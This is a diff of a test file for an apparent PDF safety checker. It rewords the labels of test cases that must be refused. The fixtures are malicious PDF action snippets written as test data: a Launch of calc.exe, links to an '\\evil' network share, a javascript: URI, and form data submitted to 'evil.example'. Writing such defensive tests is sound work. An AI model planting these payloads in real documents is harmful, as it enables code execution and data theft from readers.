@@ -36,7 +36,7 @@ describe('a PDF that does something', () => {
     ['a script when it opens', opened(SCRIPT)],
     ['a script with an escaped name', opened('<</S/J#61vaScript>>')],
     [
-      'a script whose kind is an object of its own',
+      'a script whose kind is a separate object',
       { objects: { 1: catalog('/OpenAction<</S 9 0 R>>'), 9: '/JavaScript' } },
     ],
     ['a script by name', { objects: { 1: catalog(`/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`) } }],
@@ -65,7 +65,7 @@ describe('a PDF that does something', () => {
     ['a web page of each page', { objects: { 3: page('/AA<</O<</S/URI/URI(https://a.example)>>>>') } }],
     ['a program', linked('<</S/Launch/F(calc.exe)>>')],
     ['a document of a network share', linked('<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>')],
-    ['a document inside of it', linked('<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>')],
+    ['an embedded document', linked('<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>')],
     ['a link to a file', linked('<</S/URI/URI(file://evil/share)>>')],
     ['a link to a script', linked('<</S/URI/URI(javascript:alert\\(1\\))>>')],
     ['a link to wherever it lies', linked('<</S/URI/URI(../../a.exe)>>')],
@@ -73,7 +73,7 @@ describe('a PDF that does something', () => {
     ['data sent away', linked('<</S/SubmitForm/F(http://evil.example)>>')],
     ['data taken in', linked('<</S/ImportData/F(a.fdf)>>')],
     ['a film', linked('<</S/Rendition/OP 0>>')],
-    ['a file inside of it', { objects: { 1: catalog('/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>') } }],
+    ['an embedded file', { objects: { 1: catalog('/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>') } }],
     ['a file pinned to a page', { objects: { 3: page('/Annots[<</Subtype/FileAttachment/FS 9 0 R>>]') } }],
     [
       'a second form language',
@@ -81,7 +81,7 @@ describe('a PDF that does something', () => {
     ],
     ['rich media', { objects: { 3: page('/Annots[<</Subtype/RichMedia>>]') } }],
     [
-      'a page kept in another file',
+      'a page in another file',
       { objects: { 3: page('/Contents 9 0 R'), 9: stream('/F(\\\\\\\\evil\\\\a)', 'x') } },
     ],
   ])('[CA-52] is refused: %s', async (_what, parts) => {
@@ -156,7 +156,7 @@ describe('a PDF that is damaged or too large', () => {
       'pages',
       () => buildPdf({ ...pages('9 0 R '.repeat(11), { 9: '<</MediaBox[0 0 9 9]>>' }) }),
     ],
-    ['a page tree that holds itself', 'pages', () => buildPdf(pages('2 0 R 3 0 R'))],
+    ['a page tree that contains itself', 'pages', () => buildPdf(pages('2 0 R 3 0 R'))],
     [
       'text that unpacks to 50 MB',
       'damaged',
